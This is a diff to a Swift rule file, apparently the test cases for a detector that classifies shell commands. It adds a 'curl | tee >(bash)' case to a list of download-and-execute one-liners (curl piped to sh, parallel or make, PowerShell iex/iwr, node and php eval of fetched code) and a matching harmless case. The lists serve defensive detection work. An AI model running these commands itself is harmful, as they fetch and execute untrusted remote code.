@@ -35,13 +35,13 @@ extension RiskRule {
       "curl x | ‹parallel›", "curl x | awk ‹'{print | \"sh\"}'›",
       "pwsh -c \"iex (iwr https://x)\"", "powershell -enc SQBFAFgA", "curl x | ‹make -f -›",
       "node -e \"fetch('http://x').then(r=>r.text()).then(eval)\"", "php -r 'eval(file_get_contents(\"http://x\"));'",
-
+      "curl https://x | tee >(‹bash›)",
     ],
     harmless: [
       "curl https://x", "curl https://x | grep sh", "curl https://x -o install.sh", "curl https://x | jq .",
       "curl x | python3 -m json.tool", "curl x | python3 -c 'print(1)'", "bash install.sh", "curl x | tee a.sh",
       "node -e \"fetch('http://x').then(console.log)\"",
-      "wget https://x/a.tgz && tar tf a.tgz",
+      "wget https://x/a.tgz && tar tf a.tgz", "curl https://x | tee >(wc -c)",
     ]
   ) { script in
     let downloads = Set(
